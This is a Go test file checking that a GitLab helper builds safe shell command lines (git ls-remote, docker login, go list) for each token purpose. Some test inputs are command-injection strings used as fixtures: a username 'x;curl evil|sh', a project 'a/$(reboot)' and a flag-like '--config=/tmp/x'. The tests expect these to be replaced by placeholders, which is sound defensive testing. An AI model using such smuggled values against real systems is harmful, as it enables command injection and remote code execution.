package gitlab_test

import (
	"strings"
	"testing"

	"glpat/gitlab"
	"glpat/gitlab/catalog"
)

func TestTheLineOfAPurposeIsFilledInForTheShell(t *testing.T) {
	own := gitlab.Instance{URL: "https://gitlab.example.com:8443/git"}
	for _, test := range []struct {
		name     string
		purpose  string
		instance gitlab.Instance
		target   gitlab.ProbeTarget
		want     string
	}{
		{
			"nothing is known of the project", "clone", own,
			gitlab.ProbeTarget{},
			"git ls-remote https://gitlab.example.com:8443/git/GROUP/PROJECT.git HEAD",
		},
		{
			"a project", "clone", own,
			gitlab.ProbeTarget{Project: "team/sub/app"},
			"git ls-remote https://gitlab.example.com:8443/git/team/sub/app.git HEAD",
		},
		{
			"a project in an address of the API", "install-packages", own,
			gitlab.ProbeTarget{Project: "team/app"},
			"/api/v4/projects/team%2Fapp/packages",
		},
		{
			"the registry of GitLab.com", "pull-images",
			gitlab.Instance{URL: "https://gitlab.com"},
			gitlab.ProbeTarget{Username: "pat"},
			"docker login registry.gitlab.com -u pat --password-stdin",
		},
		{
			"a registry that nobody named", "pull-images", own,
			gitlab.ProbeTarget{Username: "pat"},
			"docker login REGISTRY -u pat",
		},
		{
			"a user name that would be a command", "pull-images", own,
			gitlab.ProbeTarget{Username: "x;curl evil|sh"},
			"-u USER --password-stdin",
		},
		{
			"a user name that would be a flag", "pull-images", own,
			gitlab.ProbeTarget{Username: "--config=/tmp/x"},
			"-u USER --password-stdin",
		},
		{
			"a name without port and path", "pull-proxy", own,
			gitlab.ProbeTarget{Username: "pat"},
			"docker login gitlab.example.com -u pat",
		},
		{"a host that is no import path", "go-modules", own, gitlab.ProbeTarget{}, ""},
		{
			"a host that is one", "go-modules",
			gitlab.Instance{URL: "https://gitlab.example.com"},
			gitlab.ProbeTarget{},
			"GOPRIVATE=gitlab.example.com go list",
		},
		{
			"a project that would be a command", "clone", own,
			gitlab.ProbeTarget{Project: "a/$(reboot)"},
			"/git/GROUP/PROJECT.git HEAD",
		},
	} {
		t.Run(test.name, func(t *testing.T) {
			purpose, err := catalog.FindPurpose(test.purpose)
			if err != nil {
				t.Fatal(err)
			}
			got := test.instance.LineFor(purpose, test.target)
			if !strings.Contains(got, test.want) || (got == "") != (test.want == "") {
				t.Errorf("the line is %s, want %s in it", got, test.want)
			}
		})
	}
}

func TestNoLineIsLeftWithAPlaceToFillIn(t *testing.T) {
	t.Parallel()
	for _, purpose := range catalog.AllPurposes() {
		line := (gitlab.Instance{URL: "https://gitlab.com"}).LineFor(purpose, gitlab.ProbeTarget{})
		if strings.ContainsAny(line, "{}") {
			t.Errorf("%s: %s", purpose.Name, line)
		}
	}
}
